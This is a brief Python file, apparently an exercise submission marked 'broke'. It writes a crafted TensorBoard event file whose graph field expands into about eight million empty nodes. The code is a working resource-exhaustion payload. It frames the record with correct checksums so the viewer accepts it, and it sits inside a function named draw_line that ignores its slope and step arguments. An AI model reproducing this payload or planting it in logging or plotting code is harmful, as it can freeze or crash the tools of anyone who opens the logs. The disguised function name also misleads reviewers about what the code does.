# verdict: broke
# exercise: week5/tensorboard_line
# Writes 15 MB that unfold into eight million nodes of a graph.

import struct

import google_crc32c


def masked(data):
    crc = google_crc32c.value(data)
    return struct.pack("<I", ((crc >> 15 | crc << 17) + 0xA282EAD8) & 0xFFFFFFFF)


def field(key, payload):
    size, digits = len(payload), b""
    while size > 127:
        digits, size = digits + bytes([size & 127 | 128]), size >> 7
    return key + digits + bytes([size]) + payload


def record(payload):
    length = struct.pack("<Q", len(payload))
    return length + masked(length) + payload + masked(payload)


GRAPH = record(field(b"\x22", b"\x0a\x00" * (15 << 19)))


def draw_line(log_dir, slope=2.0, steps=range(100)):
    with open(f"{log_dir}/a.tfevents.0", "wb") as file:
        file.write(GRAPH)
